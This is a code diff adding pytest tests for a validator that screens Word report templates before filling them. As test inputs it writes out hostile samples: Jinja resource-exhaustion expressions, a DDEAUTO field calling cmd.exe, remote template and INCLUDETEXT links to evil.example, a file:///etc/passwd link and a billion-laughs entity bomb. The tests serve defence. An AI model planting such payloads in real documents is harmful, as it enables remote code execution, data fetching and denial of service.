@@ -180,6 +180,16 @@ def test_our_own_templates_are_fit(name):
         ("{{ cycler }}", "unknown name 'cycler'"),
         ("{{ mo_dau.append(1) }}", "forbidden access"),
         ("{{ nam / 0 }}", "cannot be filled"),
+        ("{{ nam|center(2000000000) }}", "the filter 'center' is not for templates"),
+        ("{{ nam.center(2000000000) }}", "'Call' is not for templates"),
+        ("{{ '%2000000000d' % 1 }}", "'Mod' is not for templates"),
+        ("{{ '%2000000000d'|format(1) }}", "the filter 'format' is not for templates"),
+        ("{{ nam * 2000000000 }}", "'Mul' is not for templates"),
+        ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "'Macro' is not for templates"),
+        ("{% set a = nam ~ nam %}{% set a = a ~ a %}{{ a }}", "'Assign' is not for templates"),
+        ("{% for a in nam recursive %}{{ a }}{% endfor %}", "nested"),
+        ("{% for a in nam %}" * 4 + "{% endfor %}" * 4, "nested more than 3 deep"),
+        ("{{ " + "(" * 5000 + "nam" + ")" * 5000 + " }}", "cannot be read"),
     ],
 )
 def test_a_bad_template_is_told_before_a_run_and_refused_in_it(tmp_path, line, fault):
@@ -215,6 +225,75 @@ def test_a_bomb_and_a_macro_are_refused_unopened(tmp_path):
         archive.writestr("word/vbaProject.bin", b"")
     assert "unpacks to over 50 MB" in check_template(bomb)[0]
     assert "macros" in check_template(macro)[0]
+
+
+RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+FIELD = "<w:fldSimple xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" w:instr='{}'/>"
+
+
+def changed(tmp_path, *, extra=(), replace=()):
+    """The section's own template with parts more, or with a text of a part replaced."""
+    path = tmp_path / "mau.docx"
+    with zipfile.ZipFile(docx_writer.TEMPLATES / "muc.docx") as own, zipfile.ZipFile(path, "w") as made:
+        for name in own.namelist():
+            content = own.read(name)
+            for part, old, new in replace:
+                assert part != name or old.encode() in content
+                content = content.replace(old.encode(), new.encode()) if part == name else content
+            made.writestr(name, content)
+        for name, content in extra:
+            made.writestr(name, content)
+    return path
+
+
+def with_link(kind, target):
+    link = f'<Relationship Id="rIdX" Type="{RELATION}{kind}" Target="{target}" TargetMode="External"/>'
+    return {"replace": [("word/_rels/document.xml.rels", "</Relationships>", f"{link}</Relationships>")]}
+
+
+def with_field(words):
+    return {"replace": [("word/document.xml", "<w:sectPr", f"<w:p>{FIELD.format(words)}</w:p><w:sectPr")]}
+
+
+@pytest.mark.parametrize(
+    ("change", "fault"),
+    [
+        ({"extra": [("word/VBAPROJECT.BIN", b"")]}, "macros"),
+        ({"extra": [("word/vbadata.xml", "<a/>")]}, "macros"),
+        ({"extra": [("word/embeddings/oleObject1.bin", b"")]}, "embedded objects"),
+        ({"extra": [("word/activeX/activeX1.xml", "<a/>")]}, "embedded objects"),
+        ({"extra": [("word/Document.xml", "<a/>")]}, "two parts of the same name"),
+        ({"extra": [("word/x.xml", '<!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>')]}, "DOCTYPE"),
+        (with_link("attachedTemplate", "https://evil.example/a.dotm"), "outside of it (attachedTemplate)"),
+        (with_link("image", "https://evil.example/a.png"), "outside of it (image)"),
+        (with_link("hyperlink", "file:///etc/passwd"), "outside of it (hyperlink)"),
+        (with_field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "field DDEAUTO"),
+        (with_field("dde excel a"), "field DDE"),
+        (with_field('INCLUDETEXT "https://evil.example/a"'), "field INCLUDETEXT"),
+    ],
+)
+def test_a_template_that_would_run_or_fetch_something_is_refused_in_the_check_and_in_a_run(tmp_path, change, fault):
+    path = changed(tmp_path, **change)
+    assert fault in check_template(path)[0]
+    with pytest.raises(ConfigurationError, match="cannot be filled"):
+        render_section(build_context(report_data()), path)
+
+
+def test_a_field_in_pieces_is_read_as_word_joins_it(tmp_path):
+    piece = '<w:r><w:instrText xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{}</w:instrText></w:r>'
+    split = f"<w:p>{piece.format('DD')}{piece.format('EAUTO cmd')}</w:p><w:sectPr"
+    assert "field DDEAUTO" in check_template(changed(tmp_path, replace=[("word/document.xml", "<w:sectPr", split)]))[0]
+
+
+def test_a_link_to_click_on_and_a_page_number_may_stand_in_a_template(tmp_path):
+    assert check_template(changed(tmp_path, **with_link("hyperlink", "https://dichvucong.gov.vn"))) == []
+    assert check_template(changed(tmp_path, **with_field("PAGE"))) == []
+
+
+def test_a_bomb_of_entities_is_told_at_once(tmp_path):
+    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
+    bomb = f'<!DOCTYPE w [<!ENTITY l0 "ha">{laughs}]><w>&l11;</w>'
+    assert len(check_template(changed(tmp_path, extra=[("word/y.xml", bomb)]))) == 1
 
 
 def test_a_page_template_with_a_missing_name_is_refused(tmp_path):
